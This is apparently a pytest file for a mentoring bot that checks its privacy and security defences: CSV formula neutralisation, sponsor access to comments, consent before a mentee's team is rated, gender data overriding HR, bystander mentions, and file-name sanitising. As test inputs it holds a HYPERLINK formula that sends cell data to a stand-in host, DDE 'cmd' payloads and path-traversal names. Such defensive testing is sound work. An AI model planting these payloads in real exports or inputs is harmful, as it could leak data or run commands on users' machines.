"""Smaller privacy leaks, each reproduced as the attack that found it: formulas in exported CSV files, comments
reaching a sponsor, a team rated without the mentee knowing, "prefer not to say" filled in from HR,
bystanders stored because they were mentioned, and file names that climb out of their folder."""

from __future__ import annotations

import base64
import csv
import io
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from adapters.console.session import ConsoleSession
from bot.domain import NewParticipant, ParticipantStatus, Role
from bot.matching.load import load_input
from bot.model import Attachment
from bot.wording import unescape
from chat import Chat
from cli_runner import run_cli
from fake_slack import FakeSlack, slack_user
from fake_teams import FakeTeams
from storage.store import SqlStore
from storage.teams_references import TeamsAccountRow
from test_reports import add_pulses
from test_sessions import COORD, MENTEE, MENTOR, pair_up
from test_slack_harness import MENTOR as SLACK_MENTOR
from test_slack_harness import TEAM, SlackBot, fake_users, seed
from test_teams_harness import COORDINATOR as TEAMS_COORDINATOR
from test_teams_harness import MENTOR as TEAMS_MENTOR
from test_teams_harness import TENANT, TeamsBot
from test_teams_harness import seed as teams_seed

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
NOAH = "noah.kim@example.com"  # Gabriela Santos's only direct report in the sample organisation
HELENA = "helena.varga@example.com"


def programme_of(chat: Chat) -> Any:
    with chat.store.unit_of_work() as uow:
        return uow.programmes.in_tenant(1)[0]


def rename(chat: Chat, email: str, name: str) -> None:
    """What a chat profile (Slack's real name, Teams' display name) can set a person's name to."""
    with chat.store.unit_of_work() as uow:
        person = uow.people.by_email(1, email)
        assert person is not None
        person.name = name
        uow.people.save(person)


# -- 1. CSV formula injection --------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_cell_that_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    from bot.spreadsheets import csv_text, safe_cell

    assert safe_cell(text) == "'" + text
    [row] = list(csv.reader(io.StringIO(csv_text([[text]]))))
    assert row == ["'" + text]


def test_numbers_stay_numbers_and_harmless_text_is_unchanged() -> None:
    from bot.spreadsheets import csv_text, safe_cell

    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(0) == 0
    assert safe_cell("Arjun Mehta") == "Arjun Mehta" and safe_cell("") == ""
    assert safe_cell("-3") == "'-3"  # text that looks like a number is still text
    assert csv_text([["a", -1, 2.5]]) == "a,-1,2.5\r\n"


def test_report_csv_neutralises_a_formula_in_a_chat_profile_name(chat: Chat) -> None:
    rename(chat, MENTOR, FORMULA)
    rename(chat, MENTEE, "@SUM(1+1)*cmd|' /C calc'!A0")
    pair_up(chat)
    chat.send(COORD, "report csv")
    [export] = chat.last[COORD][0].attachments
    rows = list(csv.DictReader(io.StringIO(base64.b64decode(export.content_b64).decode())))
    assert rows[0]["mentor"] == "'" + FORMULA
    assert rows[0]["mentee"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[0]["sessions_due"].isdigit()  # counts are written as numbers


def test_rmbot_report_out_neutralises_a_formula_in_pairs_csv(tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from bot.clock import OffsetClock

    url = f"sqlite:///{tmp_path / 'rmbot.db'}"
    store = SqlStore.open(url)
    try:
        chat = Chat(store, OffsetClock(start=datetime(2030, 3, 1, 12, 0, tzinfo=UTC)))
        chat.load_sample()
        chat.make_tenant_coordinator(COORD)
        chat.new_programme(COORD, "Digital 2030", "2030-03-02", "2030-05-31")
        rename(chat, MENTEE, "-2+3+cmd|' /C calc'!A0")
        rename(chat, MENTOR, FORMULA)
        pair_up(chat)
    finally:
        store.close()
    done = run_cli("report", "digital-2030", "--out", str(tmp_path / "report"), env={"DATABASE_URL": url})
    assert done.returncode == 0, done.stderr
    [row] = list(csv.DictReader((tmp_path / "report" / "pairs.csv").open(encoding="utf-8")))
    assert row["mentor"] == "'" + FORMULA and row["mentee"] == "'-2+3+cmd|' /C calc'!A0"


def test_every_csv_the_product_writes_goes_through_the_shared_helper() -> None:
    """A new CSV writer in bot/, adapters/ or storage/ that does not use bot.spreadsheets fails here."""
    writers = re.compile(r"csv\.(writer|DictWriter)\s*\(|\.writerows?\s*\(")
    found = [
        path.relative_to(ROOT).as_posix()
        for folder in ("bot", "adapters", "storage")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["bot/spreadsheets.py"]


# -- 2. comments and the sponsor ------------------------------------------------------------------------


def test_the_sponsor_never_gets_a_comment_its_author_allowed_only_the_coordinator_to_read(chat: Chat) -> None:
    pair_up(chat)
    chat.send(COORD, f"program edit sponsor {HELENA}")
    add_pulses(chat, [4] * 6, comment_from=2, comment="My mentee keeps cancelling, honestly")
    chat.clock.advance(timedelta(days=40))
    assert "My mentee keeps cancelling" in unescape(chat.send(COORD, "report")[0])  # the coordinator may read it
    chat.send(COORD, "program close")
    sponsor = "\n".join(unescape(m.text) for m in chat.received(HELENA))
    assert "As sponsor of **Digital 2030**" in sponsor
    assert "My mentee keeps cancelling" not in sponsor and "Comments shared with you" not in sponsor


# -- 3. the mentee's team is rated ----------------------------------------------------------------------


def team_question(chat: Chat) -> list[Any]:
    return [m for m in chat.received(NOAH) if m.question is not None and "Gabriela Santos takes part" in m.text]


def notice(chat: Chat) -> Any:
    [told] = [m for m in chat.received(MENTEE) if "direct report" in m.text]
    return told


def test_the_mentee_is_told_what_their_team_is_asked_and_who_sees_it_before_the_team_is_asked(chat: Chat) -> None:
    pair_up(chat)
    chat.advance(timedelta(hours=6))  # 10:00 in Los Angeles, where Noah works
    told = notice(chat)
    text = unescape(told.text)
    assert (
        "Your direct report will be asked" in text
        and "from 1 to 10" in text
        and "team-rated digital confidence" in text
    )
    assert "nobody ever sees an answer on its own or who gave it, you included" in text
    assert "Coordinators see only the total over all the mentees' teams" in text and "at least 5 people" in text
    [asked] = team_question(chat)
    keys = chat.deliverer.keys
    assert keys.index(told.idempotency_key) < keys.index(asked.idempotency_key)


def test_with_agreement_required_the_team_is_asked_only_once_the_mentee_agrees(chat: Chat) -> None:
    edited = unescape(chat.send(COORD, "program edit team-agreement yes")[0])
    assert "team-agreement" in edited
    assert re.search(r"team-agreement: yes \(default no\)", unescape("\n".join(chat.send(COORD, "program show"))))
    pair_up(chat)
    chat.advance(timedelta(days=1))
    told = notice(chat)
    assert "only if you agree" in unescape(told.text)
    assert team_question(chat) == []
    status = unescape(chat.send(COORD, "status")[0])
    assert "1 mentee has not answered yet" in status and "Gabriela" not in status.split("Team ratings")[1]
    chat.press(MENTEE, "Yes, ask my team")
    chat.advance(timedelta(days=3, hours=6))  # the question waits for Noah's working hours in Los Angeles
    assert len(team_question(chat)) == 1
    assert "1 mentee agreed" in unescape(chat.send(COORD, "status")[0])


def test_without_the_mentees_agreement_their_team_is_never_asked_and_the_coordinator_sees_a_count(
    chat: Chat,
) -> None:
    chat.send(COORD, "program edit team-agreement yes")
    pair_up(chat)
    chat.advance(timedelta(days=1))
    chat.press(MENTEE, "No, don't ask my team")
    chat.advance(timedelta(days=100))  # past the end-of-term team rating too
    assert team_question(chat) == []
    status = unescape(chat.send(COORD, "status")[0])
    assert "1 mentee did not agree (their team is not asked)" in status


# -- 4. "prefer not to say" and the HR directory --------------------------------------------------------


def genders(chat: Chat) -> dict[int, str | None]:
    with chat.store.unit_of_work() as uow:
        programme = uow.programmes.in_tenant(1)[0]
        found = load_input(uow, programme, chat.clock.now().date())
        return {c.person_id: c.gender for c in [*found.mentees, *found.mentors]}


def answer_intake(chat: Chat, email: str, answers: dict[str, Any]) -> None:
    with chat.store.unit_of_work() as uow:
        programme = uow.programmes.in_tenant(1)[0]
        person = uow.people.by_email(1, email)
        assert person is not None
        participant = uow.participants.find(programme.id, person.id)
        assert participant is not None
        participant.intake = {**participant.intake, **answers}
        uow.participants.save(participant)


def test_prefer_not_to_say_is_never_filled_in_from_the_hr_directory_in_matching(chat: Chat) -> None:
    from test_sessions import participants

    participants(chat, f"{MENTOR},mentor,1,ai_tools,,\n{MENTEE},mentee,,,ai_tools,\n")
    mentor, mentee = chat.person(MENTOR), chat.person(MENTEE)
    assert (mentor.gender, mentee.gender) == ("man", "woman")  # what HR says
    assert genders(chat) == {mentor.id: "man", mentee.id: "woman"}  # never asked: the directory stands
    answer_intake(chat, MENTEE, {"diversity_ok": True, "gender": "prefer_not"})
    answer_intake(chat, MENTOR, {"diversity_ok": False})
    assert genders(chat) == {mentor.id: None, mentee.id: None}


def test_the_persons_own_words_win_over_a_later_hr_import(chat: Chat) -> None:
    from bot.directory import parse_directory
    from bot.wording import PROMPTS
    from directory_support import import_directory
    from test_sessions import participants

    participants(chat, f"{MENTOR},mentor,1,ai_tools,,\n{MENTEE},mentee,,,ai_tools,\n")
    answer_intake(chat, MENTEE, {"diversity_ok": True, "gender": "self_describe", "gender_words": "Genderfluid"})
    answer_intake(chat, MENTOR, {"diversity_ok": True, "gender": "non_binary"})
    text = (PROMPTS / "sample" / "organisation.csv").read_text(encoding="utf-8")
    import_directory(chat.store, 1, parse_directory(text, {}).rows)  # HR says woman and man again
    mentor, mentee = chat.person(MENTOR), chat.person(MENTEE)
    assert genders(chat) == {mentor.id: "non_binary", mentee.id: "Genderfluid"}


def test_prefer_not_to_say_is_not_reported_as_the_hr_gender(chat: Chat) -> None:
    pair_up(chat)
    with chat.store.unit_of_work() as uow:
        programme = uow.programmes.in_tenant(1)[0].id
        taken = {p.person_id for p in uow.participants.in_programme(programme)}
        women = [p.id for p in uow.people.in_tenant(1) if p.gender == "woman" and p.id not in taken][:6]
        for person_id in women:
            uow.participants.add(
                NewParticipant(
                    programme_id=programme,
                    person_id=person_id,
                    role=Role.MENTEE,
                    status=ParticipantStatus.ACTIVE,
                    intake={"diversity_ok": True, "gender": "prefer_not"},
                    intake_completed_at=chat.clock.now(),
                )
            )
    chat.advance(timedelta(days=1))
    report = unescape(chat.send(COORD, "report")[0])
    assert "not said 6" in report or "not said 7" in report or "not said 8" in report, report
    assert not re.search(r"gender: [^·]*woman [6-9]", report), report


# -- 5. people mentioned in a message -------------------------------------------------------------------


BYSTANDERS = {
    f"W9{n:02d}": slack_user(f"W9{n:02d}", f"Bystander {n}", f"by{n}@example.com", "Analyst") for n in range(40)
}


def slack_people(store: SqlStore) -> list[Any]:
    with store.unit_of_work() as uow:
        tenant = uow.tenants.find("slack", TEAM)
        assert tenant is not None
        return uow.people.in_tenant(tenant.id)


async def test_a_slack_dm_that_mentions_forty_people_stores_none_of_them(sqlite_store: SqlStore) -> None:
    seed(sqlite_store)
    with FakeSlack(users={**fake_users(), **BYSTANDERS}) as fake:
        async with SlackBot(sqlite_store, fake) as bot:
            mentions = " ".join(f"<@{user}>" for user in BYSTANDERS)
            assert (await bot.dm(f"Who should I talk to? {mentions}", SLACK_MENTOR))[0] == 200
            assert (await bot.dm(f"invite {mentions} as mentee", SLACK_MENTOR))[0] == 200  # not a coordinator
            assert (await bot.command(f"status {mentions}"))[0] == 200  # a coordinator, but not inviting
            await bot.work()
            looked_up = {call.args.get("user") for call in fake.calls_to("users.info")}
            assert not looked_up & set(BYSTANDERS)
            people = slack_people(sqlite_store)
            assert len(people) == 3
            assert not {p.email for p in people} & {f"by{n}@example.com" for n in range(40)}


async def test_a_slack_user_the_coordinator_invites_is_still_looked_up_and_invited(sqlite_store: SqlStore) -> None:
    programme = seed(sqlite_store)
    with FakeSlack(users={**fake_users(), **BYSTANDERS}) as fake:
        async with SlackBot(sqlite_store, fake) as bot:
            await bot.command("invite <@W900|bystander.0> as mentor")
            await bot.work()
            assert "invited you" in fake.posts(fake.dm_channel("W900"))[0]["text"]
            with sqlite_store.unit_of_work() as uow:
                tenant = uow.tenants.find("slack", TEAM)
                person = uow.people.by_identity(tenant.id, "slack", "W900")  # type: ignore[union-attr]
                assert person is not None and person.email == "by0@example.com"
                assert uow.participants.find(programme, person.id) is not None
            assert len(slack_people(sqlite_store)) == 4


def teams_accounts(store: SqlStore) -> set[str]:
    from sqlmodel import Session, select

    with Session(store.engine) as session:
        return set(session.exec(select(TeamsAccountRow.account_id).where(TeamsAccountRow.tenant_key == TENANT)).all())


async def test_a_teams_message_that_mentions_people_keeps_none_of_their_accounts(sqlite_store: SqlStore) -> None:
    teams_seed(sqlite_store)
    bystanders = [(f"Bystander {n}", f"29:bystander-{n}", f"c0ffee00-0000-4000-8000-{n:012d}") for n in range(40)]
    with FakeTeams() as fake:
        async with TeamsBot(sqlite_store, fake) as bot:
            text = " ".join(f"<at>{shown}</at>" for shown, _, _ in bystanders)
            body = bot.channel(TEAMS_MENTOR, f"who knows these people? {text}", mentions=bystanders)
            assert (await bot.post(body))[0] == 200
            await bot.work()
            assert not teams_accounts(sqlite_store) & {account for _, account, _ in bystanders}
            invite = bot.channel(
                TEAMS_COORDINATOR,
                "invite <at>Bystander 0</at> as mentor",
                mentions=[bystanders[0]],
            )
            assert (await bot.post(invite))[0] == 200
            assert "29:bystander-0" in teams_accounts(sqlite_store)  # an invitation may need to reach them


# -- 6. file names made from what people typed ----------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["../../x@example.com", "..", ".", "/etc/passwd", "a/../../b", "C:\\Windows\\x", "con", "", "x\x00y"]
)
def test_a_file_name_from_user_data_is_one_plain_name(name: str) -> None:
    from bot.files import safe_file_name

    safe = safe_file_name(name, "file")
    assert safe and "/" not in safe and "\\" not in safe and "\x00" not in safe
    assert safe not in (".", "..") and not safe.startswith(".")
    assert (Path("/base") / safe).resolve().parent == Path("/base")


def test_an_attachment_cannot_name_a_path() -> None:
    attachment = Attachment(filename="../../../tmp/evil.csv", media_type="text/csv", content_b64="")
    assert "/" not in attachment.filename and not attachment.filename.startswith(".")
    assert attachment.filename.startswith("tmp-evil") and attachment.filename.endswith(".csv")


def test_the_console_keeps_every_file_inside_its_folder(chat: Chat, tmp_path: Path) -> None:
    evil = "../../x@example.com"
    chat.add_person(evil, "Evil Twin")
    folder = tmp_path / "sandbox" / "rmbot-files"
    session = ConsoleSession(chat.runtime, chat.clock, Console(file=io.StringIO(), width=200), files_dir=folder)
    assert session.switch(evil)
    session.handle_line("my-data")
    written = list(tmp_path.rglob("my-data.json"))
    assert written and all(folder.resolve() in p.resolve().parents for p in written), written
